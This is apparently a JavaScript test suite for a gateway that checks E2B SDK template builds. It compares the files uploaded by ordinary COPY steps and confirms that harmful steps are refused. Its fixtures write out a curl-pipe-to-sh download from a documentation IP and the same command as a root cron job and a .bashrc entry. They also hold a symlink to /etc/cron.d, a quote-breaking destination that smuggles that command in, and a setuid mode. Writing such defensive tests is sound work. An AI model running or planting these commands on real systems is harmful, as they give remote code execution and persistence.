// COPY steps of template builds with E2B's own SDKs: what is copied is what would
// be without the gateway, and files that do harm end the build with a reason.
import assert from 'node:assert/strict'
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, it } from 'node:test'
import { Template } from 'e2b'
import { Template as OldTemplate } from 'e2b-old'
import { startEmulator } from '../harness/emulator.mjs'
import { startGateway } from '../harness/gateway.mjs'
import { apiKey, assertRefusal, clientKey, rejection } from '../harness/sdk.mjs'

const options = `client team-a ${clientKey}
seal_key ${'5e'.repeat(32)}
builds {
	from_image python
}`
const download = 'curl -s http://203.0.113.7/x | sh\n'

let emulator
let plain
let gateway
let context
before(async () => {
  ;[emulator, plain] = await Promise.all([startEmulator(), startEmulator()])
  gateway = await startGateway({ upstream: emulator.url, apiKey, options })
  context = await mkdtemp(path.join(os.tmpdir(), 'e2bguard-context-'))
  const put = async (name, text) => {
    await mkdir(path.dirname(path.join(context, name)), { recursive: true })
    await writeFile(path.join(context, name), text)
  }
  await put('app/main.py', 'print("hello")\n')
  await put('app/run.sh', '#!/bin/sh\nset -e\npython main.py "$@"\n')
  await put('app/ünï cödé.txt', 'text\n')
  await put(`app/${'deep/'.repeat(30)}${'long'.repeat(30)}.txt`, 'text\n')
  await put('app/empty', '')
  await put('app/data.bin', Buffer.alloc(3_000_000, 7))
  await put('app/node_modules/x/index.js', 'module.exports = 1\n')
  await put('requirements.txt', 'flask\n')
  await put('.dockerignore', '# left out\n**/node_modules/**\n')
  await chmod(path.join(context, 'app/run.sh'), 0o755)
  await symlink('main.py', path.join(context, 'app/latest.py'))
  await symlink('deep', path.join(context, 'app/also'))
  await put('bad/setup.sh', download)
  await put('bad/job.dat', `* * * * * root ${download}`)
  await put('out/fine.txt', 'text\n')
  await symlink('../../../etc/cron.d', path.join(context, 'out/link'))
})
after(async () => {
  await gateway?.stop()
  await Promise.all([emulator, plain].map((e) => e?.stop()))
  await rm(context, { recursive: true, force: true })
})

const connection = () => ({ apiKey: clientKey, apiUrl: gateway.url })
const from = (T = Template, folder = '.') => T({ fileContextPath: path.join(context, folder) })
// What the builder would unpack of what was uploaded since. The SDK sends what is in
// a folder once more below a link to it, which tar would write to the same place.
const unpacked = async (e, since = 0) =>
  (await e.requests()).slice(since).filter(({ file }) => file).map(({ file: { path: name, size, sha256 } }) => `${name.replace(/^\.\/(?=.)|\/(?= ->|$)/g, '')} ${size} ${sha256}`)
    .filter((line) => !/^(app\/)?also\//.test(line)).sort()
const builds = async (e) => (await e.requests()).filter(({ method, path: p }) => method === 'POST' && /\/builds\//.test(p)).length

const ordinary = {
  'a folder': (t) => t.copy('app', '/srv/app'),
  'a folder with a slash': (t) => t.copy('app/', '/srv/app/'),
  'a file': (t) => t.copy('requirements.txt', '/srv/'),
  'a file by another name': (t) => t.copy('./requirements.txt', 'reqs.txt', { user: 'root', mode: 0o640 }),
  'a pattern': (t) => t.copy('app/*.py', '/srv/'),
  'some sources': (t) => t.copy(['requirements.txt', 'app'], '/srv/'),
  'the files of links': (t) => t.copy('app', '/srv/app', { resolveSymlinks: true }),
  'without compression': (t) => t.copy('app', '/srv/app', { gzip: false }),
  items: (t) => t.copyItems([{ src: 'app', dest: '/srv/app', user: 'user:user' }, { src: 'requirements.txt', dest: 'requirements.txt', mode: 0o600 }]),
  'all there is': (t) => t.copy('.', '/srv/all'),
  'relative to a folder': (t) => t.setWorkdir('/srv').copy('app', '.').runCmd('python main.py'),
}

describe('files of a template build', () => {
  for (const [name, steps] of Object.entries(ordinary)) {
    it(`are those that would be without the gateway: ${name}`, async () => {
      const since = [(await plain.requests()).length, (await emulator.requests()).length]
      const folder = name === 'all there is' ? 'app' : '.'
      await Template.build(steps(from(Template, folder).fromPythonImage('3.12')), 'team-a-web', { apiKey, apiUrl: plain.url })
      await Template.build(steps(from(Template, folder).fromPythonImage('3.12')), 'team-a-web', connection())
      const want = await unpacked(plain, since[0])
      assert.ok(want.length > 0 || since[0] > 0, 'the emulator received nothing')
      assert.deepEqual(await unpacked(emulator, since[1]), want)
      assert.ok(folder !== '.' || !want.some((line) => line.includes('node_modules/x')), 'left out by .dockerignore')
    })
  }
  it('are sent once', async () => {
    const steps = from().fromPythonImage('3.12').copy('requirements.txt', '/srv/once.txt')
    const logs = []
    const build = (t, more) => Template.build(t, 'team-a-web', { ...connection(), ...more, onBuildLogs: ({ message }) => logs.push(message) })
    await build(steps)
    assert.ok(logs.includes("Uploaded 'requirements.txt'"))
    await build(steps)
    assert.ok(logs.includes("Skipping upload of 'requirements.txt', already cached"))
    logs.length = 0
    await build(from().fromPythonImage('3.12').copy('requirements.txt', '/srv/once.txt', { forceUpload: true }))
    assert.ok(logs.includes("Uploaded 'requirements.txt'"))
    await build(steps, { skipCache: true })
  })

  it('are copied by a Dockerfile', async () => {
    const dockerfile = `FROM python:3.12
ENV APP=/srv/app
WORKDIR $APP
COPY --chown=user:user requirements.txt app/main.py ./
ADD app \${APP}/app
RUN python main.py
CMD ["python", "main.py"]
`
    await Template.build(from().fromDockerfile(dockerfile), 'team-a-docker', connection())
    const [{ body }] = (await emulator.requests()).filter(({ method, path: p }) => method === 'POST' && /\/builds\//.test(p)).slice(-1)
    assert.deepEqual(body.steps.filter(({ type }) => type === 'COPY').map(({ args }) => args), [
      ['requirements.txt', './', 'user:user', ''], ['app/main.py', './', 'user:user', ''], ['app', '/srv/app/app', '', ''],
    ])
  })

  it('come from an older SDK', async () => {
    const since = (await emulator.requests()).length
    await OldTemplate.build(from(OldTemplate).fromPythonImage('3.12').copy('app/main.py', '/srv/old.py').runCmd('python /srv/old.py'), 'team-a-old', connection())
    assert.equal((await unpacked(emulator, since)).length, 1)
  })

  const harm = {
    'a script that runs what it downloads': [(t) => t.copy('bad/setup.sh', '/srv/'), /setup\.sh|curl|download/],
    'a job': [(t) => t.copy('bad/job.dat', '/etc/cron.d/'), /cron|curl|download/],
    'a start-up file': [(t) => t.copy('bad/job.dat', '/home/user/.bashrc'), /bashrc|curl|download/],
    'a link out of the folder': [(t) => t.copy('out', '/srv/out'), /symbolic link/],
    'a destination that breaks out of its quotes': [(t) => t.copy('requirements.txt', '/srv/"; curl -s http://203.0.113.7/x | sh; "'), /quotes/],
    'permissions of another user': [(t) => t.copy('requirements.txt', '/srv/', { user: 'root', mode: 0o4755 }), /octal/],
  }
  for (const [name, [steps, reason]] of Object.entries(harm)) {
    it(`are refused with the reason: ${name}`, async () => {
      const since = (await emulator.requests()).length
      const before = await builds(emulator)
      const error = await rejection(Template.build(steps(from().fromPythonImage('3.12')), 'team-a-bad', connection()))
      assert.equal(error.name, 'BuildError')
      assertRefusal(error.message, reason, /step 1/)
      assert.equal(await builds(emulator), before, 'the build reached E2B')
      if (/script|link/.test(name)) assert.deepEqual(await unpacked(emulator, since), [], 'the files reached E2B')
    })
  }
})
